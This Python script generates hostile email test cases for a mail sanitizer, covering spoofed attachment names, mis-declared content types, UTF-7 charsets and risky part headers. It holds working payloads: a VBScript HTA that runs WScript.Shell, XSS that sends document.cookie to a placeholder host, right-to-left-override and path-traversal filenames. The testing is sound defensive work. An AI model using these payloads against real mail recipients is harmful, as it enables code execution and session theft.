#!/usr/bin/env python3
"""Families 1 and 2 of issue 12: names and types the sender chose.

  name-*     one HTA-like script under every way of writing its file name
             (case, trailing dot or space, RFC 2231, RFC 2047, Content-Type
             name= only, two filename parameters, right-to-left override,
             Japanese names, a path) on inline and attached text parts;
  decl-*     passive-looking text (libmagic: text/plain) declared as a type
             that renders or runs (text/html, image/svg+xml, JavaScript...):
             the delivered type must come from mugaika, never the sender;
  charset-*  text declared in a charset a client might honour in a
             dangerous way (UTF-7) or that mugaika cannot hand on as is;
  hdr-*      part header fields a renderer acts on (Content-Location,
             Content-Base) and unknown Content-Type parameters.
Every delivered name must have an allowlisted extension for its type (the
default check names_allowlisted); the script marker may only arrive as
plain text.
"""
import base64
import sys
import urllib.parse

import hostile as H

s = H.Suite("gen_names")
BODY = H.text("Please find the document attached.\n")
HTA = ('<html><head><HTA:APPLICATION id="inv"/><script language="VBScript">\r\n'
       'CreateObject("WScript.Shell").Run "calc"\r\n</script></head><body>Invoice</body></html>\r\n').encode()
MARK = "WScript.Shell"


def hdr_part(ctype_line, disp_line, data=HTA, cte="base64"):
    h = ["Content-Type: " + ctype_line]
    if disp_line:
        h.append("Content-Disposition: " + disp_line)
    h.append("Content-Transfer-Encoding: " + cte)
    return ("\n".join(h) + "\n\n").encode("utf-8") + (base64.encodebytes(data) if cte == "base64" else data)


def add(name, family, title, parts, checks):
    s.case(name, family, title, H.message(H.multipart("mixed", [BODY] + parts), s.msgid(name)), checks)


def rfc2047(text):
    return "=?utf-8?B?%s?=" % base64.b64encode(text.encode()).decode()


def rfc2231(text):
    return "utf-8''" + urllib.parse.quote(text.encode("utf-8"), safe="")


NAMES = [
    ("upper", 'text/plain; charset=utf-8', 'inline; filename="INVOICE.HTA"'),
    ("mixedcase", 'text/plain; charset=utf-8', 'attachment; filename="Invoice.Hta"'),
    ("trailing-dot", 'text/plain; charset=utf-8', 'inline; filename="invoice.hta."'),
    ("trailing-dots-spaces", 'text/plain; charset=utf-8', 'attachment; filename="invoice.hta. . "'),
    ("trailing-space", 'text/plain; charset=utf-8', 'inline; filename="invoice.hta "'),
    ("rfc2231", 'text/plain; charset=utf-8', "inline; filename*=%s" % rfc2231("invoice.hta")),
    ("rfc2231-cont", 'text/plain; charset=utf-8', "attachment; filename*0=\"invoice\"; filename*1=\".h\"; "
     "filename*2=\"ta\""),
    ("rfc2047", 'text/plain; charset=utf-8', 'inline; filename="%s"' % rfc2047("invoice.hta")),
    ("ct-name-only", 'text/plain; charset=utf-8; name="invoice.hta"', None),
    ("ct-name-inline", 'text/plain; charset=utf-8; name="invoice.hta"', "inline"),
    ("ct-name-differs", 'text/plain; charset=utf-8; name="invoice.hta"', 'inline; filename="invoice.txt"'),
    ("two-filenames", 'text/plain; charset=utf-8', 'attachment; filename="invoice.txt"; filename="invoice.hta"'),
    ("double-ext", 'text/plain; charset=utf-8', 'inline; filename="invoice.pdf.hta"'),
    ("rlo", 'text/plain; charset=utf-8', "inline; filename*=%s" % rfc2231("invoice\u202eatx.hta")),
    ("rlo-2047", 'text/plain; charset=utf-8', 'attachment; filename="%s"' % rfc2047("photo\u202egpj.hta")),
    ("zwsp", 'text/plain; charset=utf-8', "inline; filename*=%s" % rfc2231("invoice.h\u200bta")),
    ("japanese", 'text/plain; charset=utf-8', "inline; filename*=%s" % rfc2231("請求書.hta")),
    ("japanese-2047-jis", 'text/plain; charset=utf-8', 'attachment; filename="=?ISO-2022-JP?B?%s?="' %
     base64.b64encode("請求書.hta".encode("iso-2022-jp")).decode()),
    ("path", 'text/plain; charset=utf-8', 'attachment; filename="..\\\\..\\\\Startup\\\\invoice.hta"'),
    ("unix-path", 'text/plain; charset=utf-8', 'inline; filename="../../.config/autostart/x.desktop"'),
    ("no-ext-stem", 'text/plain; charset=utf-8', 'attachment; filename="hta"'),
    ("html-inline-hta", 'text/html; charset=utf-8', 'inline; filename="page.hta"'),
    ("html-attach-hta", 'text/html; charset=utf-8', 'attachment; filename="page.hta"'),
    ("nul-name", 'text/plain; charset=utf-8', "inline; filename*=utf-8''invoice.txt%00.hta"),
    ("newline-name", 'text/plain; charset=utf-8', "attachment; filename*=utf-8''invoice.txt%0D%0A.hta"),
    ("semicolon", 'text/plain; charset=utf-8', 'inline; filename="invoice.txt;.hta"'),
    ("long-name", 'text/plain; charset=utf-8', 'inline; filename="%s.hta"' % ("a" * 300)),
    ("fullwidth-dot", 'text/plain; charset=utf-8', "inline; filename*=%s" % rfc2231("invoice\uff0ehta")),
]
for tag, ct, disp in NAMES:
    add("name-" + tag, "1-inline-name", "script as text, name written as %s" % tag,
        [hdr_part(ct, disp)], [("inert", {"pattern": MARK})])

# Passive-looking text declared as something that renders or runs.
FRAG = (b"Dear user,\r\nyour invoice is ready: <b>open</b> <img src=x onerror=\"fetch('http://x.example.invalid/'"
        b"+document.cookie)\"> thanks\r\n")
JS = b"x = 1;\r\ndocument.write(\"<iframe src=http://x.example.invalid/ onload=alert(document.cookie)>\");\r\n"
SVG_P = (b"<a:svg xmlns:a=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"><a:text y=\"9\">x</a:text>"
         b"</a:svg>\r\n")
XHTML_P = (b"<h:html xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:body><h:script>alert(document.cookie)</h:script>"
           b"</h:body></h:html>\r\n")
DECL = [
    ("html", "text/html; charset=utf-8", FRAG, "onerror"),
    ("html-noname-inline", "text/html; charset=utf-8", FRAG, "onerror"),
    ("svg", "image/svg+xml", SVG_P, "alert(document.cookie)"),
    ("xhtml", "application/xhtml+xml", XHTML_P, "alert(document.cookie)"),
    ("js", "application/javascript", JS, "document.write"),
    ("textjs", "text/javascript", JS, "document.write"),
    ("xjs", "application/x-javascript", JS, "document.write"),
    ("ecmascript", "text/ecmascript", JS, "document.write"),
    ("hta", "application/hta", FRAG, "onerror"),
    ("htc", "text/x-component", FRAG, "onerror"),
    ("xml", "text/xml", SVG_P, "alert(document.cookie)"),
    ("appxml", "application/xml", XHTML_P, "alert(document.cookie)"),
    ("octet", "application/octet-stream", FRAG, "onerror"),
    ("msdownload", "application/x-msdownload", FRAG, "onerror"),
    ("vbscript", "text/vbscript", FRAG, "onerror"),
    ("shortcut", "application/x-ms-shortcut", FRAG, "onerror"),
    ("calendar", "text/calendar", FRAG, "onerror"),
    ("enriched", "text/enriched", FRAG, "onerror"),
    ("richtext", "text/richtext", FRAG, "onerror"),
    ("xml-ext-body", "text/x-unknown-markup", FRAG, "onerror"),
]
for tag, ct, data, mark in DECL:
    for nm, fname in (("noname", None), ("txt", "note.txt"), ("bare", "note")):
        if tag == "html-noname-inline" and fname:
            continue
        disp = "inline" if tag == "html-noname-inline" else ("attachment" if fname else None)
        n = "decl-%s-%s" % (tag, nm)
        add(n, "2-declared-type", "text that libmagic calls plain, declared %s, name %s" % (ct, fname),
            [H.leaf(ct, data, filename=fname, disposition=disp)], [("inert", {"pattern": mark})])

# Charsets: delivered text is in a charset mugaika chose.
UTF7 = b"Hi +ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-\r\n"
JA = "請求書を送ります。\r\n"
CHARSETS = [  # tag, declared type, bytes, name, marker (inert) or None, text that must arrive
    ("utf7-body", "text/plain; charset=utf-7", UTF7, None, "alert(document.cookie)", "Hi"),
    ("utf7-attach", "text/plain; charset=utf-7", UTF7, "note.txt", "alert(document.cookie)", None),
    ("utf7-html", "text/html; charset=utf-7", b"<html><body>" + UTF7 + b"</body></html>", None, "<script", "Hi"),
    ("sjis-attach", "text/plain; charset=shift_jis", JA.encode("cp932"), "memo.txt", None, "請求書を送ります"),
    ("eucjp-attach", "text/plain; charset=euc-jp", JA.encode("euc-jp"), "memo.txt", None, "請求書を送ります"),
    ("utf16-attach", "text/plain; charset=utf-16", JA.encode("utf-16"), "memo.txt", None, "請求書を送ります"),
    ("unknown-charset", "text/plain; charset=x-user-defined", b"caf\xe9 <b>menu</b>\r\n", "menu.txt", None, "menu"),
    ("empty-charset", 'text/plain; charset=""', b"plain words\r\n", "words.txt", None, "plain words"),
    ("bogus-charset", 'text/plain; charset="utf-8\\" onload=x"', b"plain words\r\n", "words.txt", None,
     "plain words"),
]
for tag, ct, data, fname, mark, keep in CHARSETS:
    n = "charset-" + tag
    checks = [("inert", {"pattern": mark})] if mark else []
    if keep:
        checks.append(("present", {"pattern": keep}))
    add(n, "2-declared-type", "text in charset %s" % ct.split("charset=")[1], [H.leaf(ct, data, filename=fname)],
        checks)

# Part header fields a renderer acts on, unknown parameters.
EXTRA = [
    ("content-location", ["Content-Location: file:///C:/Windows/x.hta"]),
    ("content-base", ["Content-Base: http://x.example.invalid/"]),
    ("content-id", ["Content-ID: <evil@x.example.invalid>"]),
    ("x-mac", ["X-Mac-Type: 54455854", "X-Mac-Creator: 74747874"]),
]
for tag, hdrs in EXTRA:
    n = "hdr-" + tag
    part = H.leaf("text/plain; charset=utf-8; x-unknown=\"<script>\"", b"note text\r\n", filename="note.txt",
                  headers=hdrs)
    add(n, "2-declared-type", "attachment with %s" % hdrs[0].split(":")[0], [part],
        [("present", {"pattern": "note text"})])

# The whole message is one leaf with a name: no multipart around it.
TOP = [
    ("top-inline-hta", "text/plain; charset=utf-8", 'inline; filename="invoice.hta"', HTA, MARK),
    ("top-attachment-hta", "application/hta", 'attachment; filename="invoice.hta"', HTA, MARK),
    ("top-html-named", "text/html; charset=utf-8", 'attachment; filename="page.html"',
     b"<html><body>Hello<script>document.location='http://x.example.invalid/'</script></body></html>", "document.location"),
    ("top-svg", "image/svg+xml", None, SVG_P, "alert(document.cookie)"),
]
for tag, ct, disp, data, mark in TOP:
    n = "name-" + tag
    s.case(n, "1-inline-name", "the whole message is a single part: %s %s" % (ct, disp or ""),
           H.message(hdr_part(ct, disp, data), s.msgid(n)), [("inert", {"pattern": mark})])

# Names that are odd in themselves, on passive content.
ODD = [
    ("dotfile", "text/plain; charset=utf-8", ".hta", b"just words\r\n", "just words"),
    ("only-dots", "text/plain; charset=utf-8", "...", b"just words\r\n", "just words"),
    ("pdf-named-txt", "text/plain", "report.txt", H.pdf_doc("odd"), None),
    ("png-named-pdf", "application/pdf", "scan.pdf", H.PNG, None),
    ("reserved-device", "text/plain; charset=utf-8", "CON.txt", b"just words\r\n", "just words"),
    ("long-japanese", "text/plain; charset=utf-8", "議事録" * 60 + ".txt", b"just words\r\n", "just words"),
]
for tag, ct, fname, data, keep in ODD:
    n = "odd-" + tag
    checks = [("present", {"pattern": keep})] if keep else []
    add(n, "1-inline-name", "a file named %r" % fname[:40],
        [hdr_part(ct, "attachment; filename*=%s" % rfc2231(fname), data)], checks)

sys.exit(s.main())
